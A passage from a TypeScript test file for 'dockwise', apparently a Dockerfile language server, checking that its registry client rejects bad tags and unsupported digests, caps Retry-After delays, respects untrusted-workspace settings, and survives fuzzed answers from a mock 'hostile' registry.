    assert.equal(requestsTo(hostile, '/v2/twelve/head/').length - before, requests, header);
  }
  await assert.rejects(client().digestOf(ref(`${hostile.host}/twelve/head`), '../x'), /not a tag/);
});

test('12. a digest pin dockwise cannot check is refused before a request; a sha512 pin is checked', async () => {
  const error = await failure(client().describe(ref(`${hostile.host}/twelve/pin@sha384:${'a'.repeat(96)}`)));
  assert.equal(error.message, 'dockwise can check sha256 and sha512 digests only.');
  assert.deepEqual(requestsTo(hostile, '/v2/twelve/pin/'), []);
  const built = image({ os: 'linux', architecture: 'amd64' });
  const sha512 = `sha512:${(await import('node:crypto')).createHash('sha512').update(built.manifest).digest('hex')}`;
  hostile.serve(`/v2/twelve/pin/manifests/${sha512}`, built.manifest, { 'content-type': OCI_MANIFEST });
  hostile.serve(`/v2/twelve/pin/blobs/${built.configDigest}`, built.config);
  assert.equal((await client().describe(ref(`${hostile.host}/twelve/pin@${sha512}`))).digest, sha512);
  const wrong = `sha512:${'b'.repeat(128)}`;
  hostile.serve(`/v2/twelve/pin/manifests/${wrong}`, built.manifest, { 'content-type': OCI_MANIFEST });
  assert.match((await failure(client().describe(ref(`${hostile.host}/twelve/pin@${wrong}`)))).message, /does not match/);
});

test('12. Retry-After is capped at 5 minutes, read as seconds or as a date, and ignored when it is nonsense', async () => {
  hostile.route('/v2/twelve/limited/manifests/1', (_req, res) => {
    res.writeHead(429, { 'retry-after': '999999999', 'content-type': 'application/json' });
    res.end('{}');
  });
  const error = await failure(client().describe(ref(`${hostile.host}/twelve/limited:1`)));
  assert.equal(error.kind, 'rate-limited');
  assert.equal(error.retryAfterMs, MAX_RETRY_AFTER_MS);
  const now = Date.parse('2026-01-01T00:00:00Z');
  assert.equal(retryAfterMs('Thu, 01 Jan 2026 00:01:00 GMT', now), 60_000);
  assert.equal(retryAfterMs('Fri, 01 Jan 2027 00:00:00 GMT', now), MAX_RETRY_AFTER_MS);
  for (const nonsense of ['-5', '1e9', 'soon', '', '0', '12abc']) assert.equal(retryAfterMs(nonsense, now), undefined, nonsense);
});

test('12. a client that does not say the workspace is trusted gets the untrusted policy: no listed host is asked', async () => {
  assert.ok(existsSync(join(ROOT, 'server/out/server.js')), 'build the server first (node scripts/build.mjs)');
  publish(hostile, 'twelve/trust', '1', image({ os: 'linux', architecture: 'amd64' }));
  const lsp = await startInitializedServer({ dockwise: { registry: { hosts: [hostile.host], network: 'all' } }, storagePath: folder(), init: { trusted: undefined } });
  try {
    const uri = 'untitled:hostile-trust';
    await lsp.connection.sendNotification(DidOpenTextDocumentNotification.type, { textDocument: { uri, languageId: 'dockerfile', version: 1, text: `FROM ${hostile.host}/twelve/trust:1\n` } });
    const hover = await lsp.connection.sendRequest(HoverRequest.type, { textDocument: { uri }, position: { line: 0, character: 8 } });
    assert.equal((hover?.contents as MarkupContent).value, `**${hostile.host}/twelve/trust:1** · registry data unavailable: ${hostile.host} is not allowed by dockwise.registry settings.`);
    assert.deepEqual(requestsTo(hostile, '/v2/twelve/trust/'), []);
  } finally {
    lsp.process.kill();
  }
});

// ─── The fuzzer over registry answers ─────────────────────────────────────────────────────────────

const REPLAYS = join(ROOT, 'test/fixtures/fuzz/registry');
for (const name of existsSync(REPLAYS) ? readdirSync(REPLAYS).filter((n) => n.endsWith('.json')) : []) {
  test(`registry fuzz regression ${name}`, async () => assert.equal(await checkRegistry(JSON.parse(readFileSync(join(REPLAYS, name), 'utf8')) as RegistryInput), undefined));
}

test('1,000 mutated registry answers (seed 1) parse, render and complete without an exception, a link or an unbounded answer, in under 10 s', async () => {
  const started = Date.now();
  const failures: string[] = [];
  await fuzzRegistry(1000, 1, (f) => failures.push(`${f.problem}\n---\n${f.input.kind} ${f.input.text.slice(0, 300)}`));
  assert.deepEqual(failures, []);
  assert.ok(Date.now() - started < 10_000);
  assert.ok(isTag('1.0') && !isTag('1.0\n'));
});
